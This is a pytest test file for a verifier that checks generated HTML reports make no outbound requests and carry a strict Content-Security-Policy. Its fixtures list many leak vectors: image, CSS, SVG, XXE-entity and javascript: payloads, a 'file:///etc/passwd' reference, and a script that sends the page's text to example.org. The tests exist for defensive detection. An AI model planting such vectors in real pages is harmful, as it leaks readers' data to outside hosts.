"""HTML reports: everything that could send a request, each by itself."""

import base64
import hashlib
import re

import pytest

from reportgen.rendering.tables.threshold_dial import inline_script
from reportgen.verification.html_report import examine_chapters, examine_page
from reportgen.verification.own_scripts import OWN_SCRIPTS, is_own
from reportgen.verification.page_parts import MOST_NESTED
from tests.verification.pages import DIGEST, GOOD_POLICY, page

OUT = "http://example.org/x"


def data(media: str, content: str) -> str:
    return f"data:{media};base64,{base64.b64encode(content.encode()).decode()}"


LEAVING = {
    "picture": f'<img src="{OUT}">',
    "picture without a scheme": '<img src="//example.org/x">',
    "picture beside the file": '<img src="x.png">',
    "picture of a file": '<img src="file:///etc/passwd">',
    "spaces and a line end in the address": '<img src=" ht\ntp://example.org/x">',
    "upper case": f'<IMG SRC="{OUT.upper()}">',
    "srcset": f'<img src="data:," srcset="data:image/png;base64,AA== 1x, {OUT} 2x">',
    "srcset without descriptors": '<img srcset="data:,a, x.png">',
    "source": f'<picture><source srcset="{OUT}"></picture>',
    "preload": f'<link rel="preload" as="image" imagesrcset="{OUT} 1x">',
    "style sheet": f'<link rel="stylesheet" href="{OUT}">',
    "connection ahead": f'<link rel="preconnect" href="{OUT}">',
    "icon": '<link rel="icon" href="favicon.ico">',
    "poster": f'<video poster="{OUT}"></video>',
    "audio": f'<audio src="{OUT}"></audio>',
    "track": f'<video><track src="{OUT}"></video>',
    "input": f'<input type="image" src="{OUT}">',
    "background": f'<table background="{OUT}"></table>',
    "frame": '<iframe src="about:blank"></iframe>',
    "frame with its own document": "<iframe srcdoc='&lt;img src=x&gt;'></iframe>",
    "object": f'<object data="{OUT}"></object>',
    "embedded": f'<embed src="{OUT}">',
    "form": f'<form action="{OUT}"></form>',
    "button": f'<button formaction="{OUT}">x</button>',
    "refresh": f'<meta http-equiv="refresh" content="0; url={OUT}">',
    "base": f'<base href="{OUT}">',
    "base of nothing": '<base href="data:,">',
    "ping": f'<a href="#x" ping="{OUT}">x</a>',
    "link": f'<a href="{OUT}">x</a>',
    "link to mail": '<a href="mailto:a@example.org">x</a>',
    "area": f'<map><area href="{OUT}"></map>',
    "script of a link": '<a href="java\tscript:alert(1)">x</a>',
    "style of an element": f"<p style=\"background:url('{OUT}')\">x</p>",
    "escaped style": '<p style="background:u\\72l(//example.org/x)">x</p>',
    "style element": f"<style>a{{background:URL( {OUT} )}}</style>",
    "property of one's own": f"<style>a{{--b:url({OUT})}}</style>",
    "import": f"<style>@import '{OUT}';</style>",
    "import by url": f"<style>@import url({OUT}) print;</style>",
    "import within data": f"<style>@import '{data('text/css', f'@import {OUT!r}')}';</style>",
    "image set": f"<style>a{{background:image-set('{OUT}' 1x, url(data:,) 2x)}}</style>",
    "image set with a prefix": f"<style>a{{background:-webkit-image-set('{OUT}' 1x)}}</style>",
    "address put together": "<style>a{background:src(var(--b))}</style>",
    "font": f"<style>@font-face{{font-family:x;src:url({OUT})}}</style>",
    "svg picture": f'<svg><image href="{OUT}"/></svg>',
    "svg picture by xlink": f'<svg><image xlink:href="{OUT}"/></svg>',
    "svg use": f'<svg><use href="{OUT}#a"/></svg>',
    "svg filter": f'<svg><filter><feImage href="{OUT}"/></filter></svg>',
    "svg fill": f'<svg><path fill="url({OUT}#a)"/></svg>',
    "svg style": f"<svg><style>path{{fill:url({OUT})}}</style></svg>",
    "svg link": f'<svg><a href="{OUT}"><text>x</text></a></svg>',
    "svg link set later": f'<svg><a><set attributeName="href" to="{OUT}"/></a></svg>',
    "svg base": f'<svg xml:base="{OUT}"></svg>',
    "svg as data": f'<img src="{data("image/svg+xml", f"<svg><image href={OUT!r}/></svg>")}">',
    "svg as data, another prefix": '<img src="{}">'.format(
        data(
            "image/svg+xml", f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:image x:href="{OUT}"/></s:svg>'
        )
    ),
    "svg as data, hidden by a capital": '<img src="{}">'.format(
        data(
            "image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg"><image Href="#a" href="{OUT}"/></svg>'
        )
    ),
    "svg as data, unpacked": f"<img src=\"data:image/svg+xml,<svg><image href='{OUT}'/></svg>\">",
    "svg as data with a style sheet": '<img src="{}">'.format(
        data("image/svg+xml", f'<?xml-stylesheet href="{OUT}"?><svg/>')
    ),
    "svg as data with an entity": '<img src="{}">'.format(
        data("image/svg+xml", f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{OUT}">]><svg>&a;</svg>')
    ),
    "without scripts": f'<noscript><img src="{OUT}"></noscript>',
    "hidden where scripts are off": f"<noscript><p title='</noscript><img src={OUT}>'></noscript>",
    "svg style after a child": f"<svg><style>a{{}}<g/>@import url({OUT});</style></svg>",
    "svg style after a comment": f"<svg><style><!-- x -->@import '{OUT}';</style></svg>",
    "svg fill set later": f'<svg><path><set attributeName="fill" to="url({OUT}#a)"/></path></svg>',
    "svg fill animated": f'<svg><path><animate attributeName="fill" values="red;url({OUT}#a)"/></path></svg>',
    "svg picture animated": f'<svg><image><animate attributeName="xlink:href" from="{OUT}"/></image></svg>',
    "address in an attribute of no name": f'<p foo="url({OUT})">x</p>',
    "manifest": f'<link rel="manifest" href="{OUT}">',
    "citation": f'<blockquote cite="{OUT}">x</blockquote>',
}


@pytest.mark.parametrize("body", LEAVING.values(), ids=list(LEAVING))
def test_what_leaves_the_page_is_found(body: str) -> None:
    examined = examine_page(page(body))
    assert examined.short
    assert not any(line.startswith("self-contained") for line in examined.checked)


@pytest.mark.parametrize("twin", [r' \1=\2 x:\1="#"', r' x:\1="#" \1=\2'], ids=["after", "before"])
@pytest.mark.parametrize("body", LEAVING.values(), ids=list(LEAVING))
def test_an_attribute_is_not_hidden_by_one_with_a_prefix(body: str, twin: str) -> None:
    assert examine_page(page(re.sub(r""" ([\w-]+)=("[^"]*"|'[^']*')""", twin, body))).short


STAYING = {
    "address as text": f"<p>{OUT} url({OUT})</p>",
    "address in an alternative text": f'<img alt="url({OUT})" title="{OUT}" src="data:image/png;base64,AA==">',
    "address in a comment": f'<!-- <img src="{OUT}"> -->',
    "address in a comment of a style": f"<style>/* url({OUT}) */ a{{color:red}}</style>",
    "place in the page": '<a href="#x">x</a>',
    "reference within a picture": '<svg><defs><path id="a"/></defs><use href="#a"/><path fill="url(#b)"/></svg>',
    "data": '<img src="data:image/png;base64,AA==" srcset="data:image/png;base64,AA== 2x">',
    "font as data": "<style>@font-face{font-family:x;src:url(data:font/woff2;base64,AA==)}</style>",
    "svg as data": f'<img src="{data("image/svg+xml", "<svg><path fill=url(#a) /></svg>")}">',
    "data of a script": '<script type="application/json">{"src": "http://example.org"}</script>',
    "words": "<style>a{content:'http://example.org'}</style>",
}


@pytest.mark.parametrize("body", STAYING.values(), ids=list(STAYING))
def test_what_stays_in_the_page_is_well(body: str) -> None:
    assert examine_page(page(body)).short == ()


@pytest.mark.parametrize("link", ["link", "link to mail", "area", "svg link"])
def test_links_can_be_allowed(link: str) -> None:
    examined = examine_page(page(LEAVING[link]), links=True)
    assert examined.short == ()
    assert "1 lead elsewhere when a reader clicks" in examined.checked[0]


@pytest.mark.parametrize(
    "still", ["picture", "style of an element", "script of a link", "svg link set later"]
)
def test_allowing_links_allows_nothing_else(still: str) -> None:
    assert examine_page(page(LEAVING[still]), links=True).short


@pytest.mark.parametrize(
    "body",
    [
        "<style>a{b:" + "(" * 5000 + "</style>",
        f'<p style="b:{"(" * 5000}">x</p>',
        "<svg>" + "<g>" * 20_000,
    ],
)
def test_what_is_nested_deeply_falls_short_at_most(body: str) -> None:
    examined = examine_page(page(body))
    assert all("nested too deeply" in line for line in examined.short)
    assert examine_chapters(page(body))[1] == 1


def script_policy(text: str) -> str:
    digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
    return f"{GOOD_POLICY}; script-src 'sha256-{digest}'"


def test_elements_may_be_nested_as_deeply_as_browsers_let_them() -> None:
    deep = MOST_NESTED - 10
    assert examine_page(page("<div>" * deep + "</div>" * deep)).short == ()
    assert examine_page(page("<b>" * MOST_NESTED)).short == (
        "something in it is nested too deeply to be read",
    )


def within(depth: int) -> str:
    """Return a picture that carries a picture that carries ..., which would be read three times on each level."""
    address = "data:,"
    for _ in range(depth):
        address = data("image/svg+xml", f"<svg><noscript/><image href='{address}'/></svg>")
    return f'<img src="{address}">'


def test_what_is_carried_in_what_is_carried_is_read_to_a_depth() -> None:
    assert examine_page(page(within(3))).short == ()
    (said,) = examine_page(page(within(16))).short
    assert said.endswith("documents are carried in one another as data, more than 3 deep")


OWN = str(inline_script()[0])


def test_our_own_script_named_by_its_hash_is_well() -> None:
    examined = examine_page(page(f"<script>{OWN}</script>", policy=script_policy(OWN)))
    assert examined.short == ()
    assert "scripts: 1 of reportgen's own, allowed by hash" in examined.checked
    assert examine_page(page(f"<script>{OWN}</script>")).short, "the policy does not name it"


def test_the_script_of_this_version_is_listed() -> None:
    digest = inline_script()[1]
    assert digest in OWN_SCRIPTS, (
        f"templates/js has changed: add {digest} to OWN_SCRIPTS, and keep the others"
    )
    assert is_own(OWN)


def test_a_script_that_leads_elsewhere_falls_short_though_the_policy_of_its_page_names_it() -> None:
    text = "location = 'https://example.org/?' + document.body.innerText"
    examined = examine_page(page(f"<script>{text}</script>", policy=script_policy(text)))
    assert any(
        line.startswith("a script that is not one of reportgen's: location") for line in examined.short
    )
    assert any("Policy allows a script that is not one of reportgen's" in line for line in examined.short)
    assert examine_page(page(policy=script_policy(text))).short, "it may be put in later"


@pytest.mark.parametrize(
    "body",
    [
        "<script>other()</script>",
        "<script type=module>other()</script>",
        "<svg><script>other()</script></svg>",
        '<script type="speculationrules">{}</script>',
        '<p onclick="named()">x</p>',
        '<svg onload="named()"></svg>',
        '<script x:type="application/json">other()</script>',
        '<script type="module" x:type="application/json">other()</script>',
    ],
)
def test_any_other_script_falls_short(body: str) -> None:
    assert examine_page(page(body, policy=script_policy("named()"))).short


@pytest.mark.parametrize(
    ("policy", "said"),
    [
        (None, "no Content-Security-Policy"),
        ("img-src data:", "lacks default-src"),
        ("default-src 'none'", "lacks base-uri"),
        ("default-src 'none'; base-uri 'none'", "lacks form-action"),
        (GOOD_POLICY.replace("'none'", "'self'", 1), "allows 'self' in default-src"),
        (GOOD_POLICY.replace("img-src data:", "img-src https:"), "allows https: in img-src"),
        (f"{GOOD_POLICY}; script-src 'unsafe-inline'", "allows 'unsafe-inline' in script-src"),
        (f"{GOOD_POLICY}; script-src data:", "allows data: in script-src"),
        (f"{GOOD_POLICY}; script-src 'sha256-x", "allows 'sha256-x in script-src"),
        (f"{GOOD_POLICY}; connect-src *", "allows * in connect-src"),
        (f"{GOOD_POLICY}; frame-src data:", "allows data: in frame-src"),
        (f"{GOOD_POLICY}; report-uri /x", "report-uri, which sends reports"),
    ],
)
def test_a_policy_allows_no_more_than_by_hash(policy: str | None, said: str) -> None:
    assert any(said in line for line in examine_page(page(policy=policy)).short)


def test_a_policy_after_what_it_is_for_does_not_count() -> None:
    examined = examine_page(page(before="<style>a{color:red}</style>"))
    assert examined.short == ("there is no Content-Security-Policy at the head of the page",)


@pytest.mark.parametrize(
    "head",
    [
        f'<meta x:http-equiv="content-security-policy" content="{GOOD_POLICY}">',
        f'<meta http-equiv="x" x:http-equiv="content-security-policy" content="{GOOD_POLICY}">',
        f'<meta http-equiv="content-security-policy" content="default-src *" x:content="{GOOD_POLICY}">',
    ],
)
def test_what_browsers_take_for_no_policy_is_none(head: str) -> None:
    assert examine_page(page(before=head, policy=None)).short


def test_of_several_policies_the_strictest_counts() -> None:
    loose = '<meta http-equiv="content-security-policy" content="default-src *">'
    assert examine_page(page(before=loose)).short == ()


def test_a_page_that_was_cut_short_is_not_whole() -> None:
    content = page()
    assert any("cut short" in line for line in examine_page(content[:-12]).short)
    cut = examine_page(content[: content.index(b'<p class="digest"')])
    assert any("not a whole report" in line for line in cut.short)


def test_a_digest_that_differs_from_the_one_printed_is_found() -> None:
    content = page().replace(DIGEST.encode(), b"cd" * 32, 1)
    assert any("different results digests" in line for line in examine_page(content).short)


@pytest.mark.parametrize(
    ("stated", "printed", "well"),
    [
        ("cd" * 32, "cd" * 32, True),
        ("cd" * 32, "ef" * 32, False),
        ("", "ef" * 32, False),
        ("cd" * 32, "", False),
    ],
)
def test_the_digest_without_samples_is_held_against_the_one_printed(
    stated: str, printed: str, *, well: bool
) -> None:
    head = f'<meta name="redacted-digest" content="{stated}">' if stated else ""
    body = f'<p class="digest redacted">{printed}</p>' if printed else ""
    short = examine_page(page(body, head=head)).short
    assert (short == ()) == well
    assert well or "different digests without samples" in short[0]
